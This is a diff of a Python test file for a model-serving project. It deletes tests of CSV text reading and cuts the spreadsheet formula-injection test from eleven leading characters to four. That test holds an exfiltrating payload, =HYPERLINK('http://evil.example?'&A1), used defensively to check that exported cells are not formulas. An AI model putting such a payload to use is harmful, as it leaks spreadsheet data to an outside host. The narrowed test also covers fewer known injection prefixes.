@@ -20,10 +20,9 @@ from companion.cli import app as app_command
 from companion.generation import LanguageModel
 from companion.gpt import GPTConfig, gpt2
 from companion.lora import add_lora, save_adapter
-from companion.runtime.data.labelled_texts import read_texts
 from companion.runtime.storage.adapters import on_network
 from companion.serve import html_parts as html
-from companion.serve.classifying import as_csv, check_texts, make_example
+from companion.serve.classifying import as_csv, make_example
 from companion.serve.drawing import Drawing, Seen
 from companion.serve.offered import SHIPPED, Offer, find_offered
 from companion.tokenization import BPETokenizer
@@ -286,40 +285,10 @@ def test_a_drawing_stays_within_the_context_and_may_be_broken_off():
         Drawing(teller, "key " * 300, 10, seed=1)
 
 
-# -- classifying ------------------------------------------------------------------
-
-
-def test_texts_are_read_by_the_code_of_finetune():
-    data = 'text,more\r\n"a, b",1\r\nc,2\r\n'.encode("utf-8-sig")
-    found = [("a, b", "mine.csv, line 2"), ("c", "mine.csv, line 3")]
-    assert read_texts(data, "mine.csv", "text", 2) == found
-
-
-@pytest.mark.parametrize(
-    "column, says",
-    [
-        ("text", "more than 1 rows"),
-        ("label", "name it with the field Column"),
-        ("empty", "line 2: empty is missing"),
-    ],
-)
-def test_texts_that_cannot_be_read_are_one_line(column, says):
-    with pytest.raises(ValueError, match=says):
-        read_texts(b"text,empty\na, \nb,c\n", "mine.csv", column, 1)
-
-
-def test_a_text_that_is_too_long_is_named_by_its_place():
-    model = SimpleNamespace(config=SimpleNamespace(context_length=3))
-    reader = SimpleNamespace(classifier=SimpleNamespace(model=model), rows=lambda texts: [*map(list, texts)])
-    check_texts(reader, ["abc"], ["line 2"])
-    with pytest.raises(ValueError, match="line 3 has 4 tokens, and the model reads 3"):
-        check_texts(reader, ["abc", "abcd"], ["line 2", "line 3"])
-
-
 # -- the table to download
 
 
-@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
+@pytest.mark.parametrize("begin", ["=", "@", "\t", "＝"])
 def test_no_cell_of_the_table_is_a_formula(begin):
     text = f'{begin}HYPERLINK("http://evil.example?"&A1)'
     table = as_csv([text, "plain, and -1"], [{begin + "spam": 0.75, "ham": 0.25}] * 2)
